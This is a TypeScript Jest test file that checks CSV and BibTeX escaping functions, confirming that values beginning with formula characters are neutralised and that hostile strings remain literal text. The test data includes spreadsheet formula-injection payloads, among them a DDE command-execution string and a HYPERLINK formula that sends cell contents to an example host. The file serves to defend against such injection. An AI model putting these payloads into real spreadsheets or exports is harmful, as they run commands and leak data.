import { Cite } from '@citation-js/core';
import '@citation-js/plugin-bibtex';
import { expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { oneLine } from '../../src/escape/characters.ts';
import { bibtexKey, bibtexText, bibtexUrl, csvText } from '../../src/escape/records.ts';
import { HOSTILE_WORDS } from './hostile-words.ts';

const WORDS = Object.entries(HOSTILE_WORDS);
const FORMULA = /^[=+\-@＝＋－＠]/;

test.each(WORDS)('%s is read back from CSV', (_, word) => {
  const [record] = parse(`a,${csvText(word)},b\r\n`) as string[][];
  const line = oneLine(word);
  expect(record).toEqual(['a', FORMULA.test(line) ? `'${line}` : line, 'b']);
});

test.each([
  '=1+1',
  '+1',
  '-a',
  '-1+cmd',
  '@SUM(A1)',
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("https://a.example/?"&A1)',
  '\t=1+1',
  '\u200B=1+1',
  '＝1+1',
])('%s is no formula', (word) => {
  expect(csvText(word)).toMatch(/^"?'/);
});

test.each(['0', '-5', '-1.25', '2026-11-22', 'a=b', 'a-b @c'])(
  '%s stays as it is in CSV',
  (text) => {
    expect(csvText(text)).toBe(text);
  },
);

test.each(WORDS.filter(([, word]) => oneLine(word) !== ''))('%s is text in BibTeX', (_, word) => {
  const source = `@misc{${bibtexKey(word)}, title = {{a ${bibtexText(word)}}}, url = {${bibtexUrl('https://a.example/%7B{}')}}, note = {b}}`;
  const [entry, ...others] = new Cite(source).data;

  expect(others).toEqual([]);
  expect(entry).toMatchObject({ note: 'b', URL: 'https://a.example/%7B%7B%7D' });
  expect(letters(entry?.title)).toBe(letters(`a ${oneLine(word)}`));
});

function letters(text: unknown): string {
  return String(text).replace(/[^\p{L}\p{N}]/gu, '');
}
